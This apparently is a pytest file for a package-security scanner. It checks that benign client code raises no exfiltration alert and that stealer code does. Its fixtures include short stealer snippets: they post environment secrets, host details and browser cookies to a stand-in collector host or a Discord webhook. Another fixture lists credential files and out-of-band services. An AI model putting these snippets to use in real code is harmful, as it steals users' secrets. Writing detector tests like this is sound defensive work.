"""dataExfiltration in Python judged by a send that happens: literals that only name an
endpoint, requests to this machine and host data sent where the user points a client are no
exfiltration; the same reads sent to a host the code names still are."""

from __future__ import annotations

from pathlib import Path

from depshield.api import analyze_artifact
from depshield.model import PackageResult

PKG_INFO = (
    "Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\nSummary: fixture\n"
    "Home-page: https://code.example.invalid/{name}\nLicense: MIT\n"
)


def package(tmp_path: Path, name: str, files: dict[str, str]) -> PackageResult:
    root = tmp_path / name
    for path, text in {"PKG-INFO": PKG_INFO.format(name=name), **files}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return analyze_artifact(root)


def exfil(result: PackageResult) -> dict[tuple[str | None, int | None], str]:
    return {(a.file, a.line): a.action for a in result.alerts if a.type == "dataExfiltration"}


NOTIFIER = """import os
from requests import Session

API = "https://api.telegram.org/bot"
TOKEN = os.getenv("NOTIFY_TELEGRAM_TOKEN")


class Notifier:
    def __init__(self, token=TOKEN):
        self.session = Session()
        self.token = token

    def send(self, text):
        return self.session.post(API + self.token + "/sendMessage", data={"text": text})
"""

AGENT = """import platform
import socket
import sys

import requests


class Agent:
    def __init__(self, manager):
        self.manager = manager
        self.name = socket.gethostname()
        self.os = platform.platform()

    def report(self):
        payload = {"name": self.name, "os": self.os, "fqdn": socket.getfqdn()}
        return requests.post(self.manager + "/status", json=payload)


Agent(sys.argv[1]).report()
"""

LOCAL_DAEMON = """import os

import requests

KEY = os.getenv("PROVIDER_API_KEY")
OLLAMA_UP = requests.get("http://localhost:11434").ok
"""

SETTINGS = """import os

FILE_CHECKS = ("/etc/passwd", "/etc/shadow", "/.bash_history")
OOB_SERVICES = r"(oast\\.fun|oast\\.pro|webhook\\.site)"
ENV_OPTIONS = [name for name, _ in os.environ.items() if name.startswith("TOOL_")]
"""

PREFIXED_ENV = """import os

import requests


def overrides(prefix="TOOL_"):
    found = {}
    for key, value in os.environ.items():
        if not key.startswith(prefix):
            continue
        found[key] = value
    return found


def child_env(extra):
    env = {}
    for k, v in os.environ.items():
        env[k] = env.get(k, v)
    env.update(extra)
    return env


def fetch(url):
    return requests.get(url).content
"""


def test_client_code_that_names_endpoints_or_reports_to_its_manager_is_no_exfiltration(
    tmp_path: Path,
) -> None:
    result = package(
        tmp_path,
        "clients",
        {
            "clients/__init__.py": "from . import notify, agent, local, settings, envs\n",
            "clients/notify.py": NOTIFIER,
            "clients/agent.py": AGENT,
            "clients/local.py": LOCAL_DAEMON,
            "clients/settings.py": SETTINGS,
            "clients/envs.py": PREFIXED_ENV,
        },
    )
    assert exfil(result) == {}, [(a.type, a.file, a.line) for a in result.alerts]


STEALER = """import os
import platform
import socket

import requests

info = {"host": socket.gethostname(), "os": platform.platform()}
requests.post("https://collect.example.invalid/i", json=info)
"""

WEBHOOK = """import os
import requests

HOOK = "https://discord.com/api/webhooks/1234/abcd"
secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k}
requests.post(HOOK, json=secrets)
"""

ENV_DUMP = """import os
import requests


def run():
    data = {}
    for key, value in os.environ.items():
        if key != "PATH":
            data[key] = value
    requests.post("https://collect.example.invalid/e", json=data)
"""


def test_the_same_reads_sent_to_a_host_the_code_names_still_fire(tmp_path: Path) -> None:
    result = package(
        tmp_path,
        "stealer",
        {
            "stealer/__init__.py": STEALER,
            "stealer/hook.py": WEBHOOK,
            "stealer/dump.py": ENV_DUMP,
        },
    )
    found = exfil(result)
    assert found[("stealer/__init__.py", 8)] == "error"
    assert ("stealer/hook.py", 6) in found
    assert ("stealer/dump.py", 10) in found


COOKIES = """import os
import sqlite3


def browser_cookies(browser):
    root = os.path.expanduser("~/.mozilla/firefox")
    if browser == "chrome":
        root = os.path.expanduser("~/.config/google-chrome/Default")
    db = os.path.join(root, "cookies.sqlite")
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT host, name, value FROM moz_cookies").fetchall()
"""

COOKIE_THIEF = (
    COOKIES
    + """

import requests


def share():
    requests.post("https://collect.example.invalid/c", json=browser_cookies("chrome"))
"""
)


def test_cookie_reader_that_sends_nothing_is_monitor_and_a_sender_still_blocks(
    tmp_path: Path,
) -> None:
    reader = package(tmp_path, "cookiejar", {"cookiejar/__init__.py": COOKIES})
    harvest = [a for a in reader.alerts if a.type == "credentialHarvesting"]
    assert harvest and {a.action for a in harvest} == {"monitor"}
    assert (harvest[0].file, harvest[0].line) == ("cookiejar/__init__.py", 9)
    thief = package(tmp_path, "cookiethief", {"cookiethief/__init__.py": COOKIE_THIEF})
    assert exfil(thief).get(("cookiethief/__init__.py", 18)) == "error"
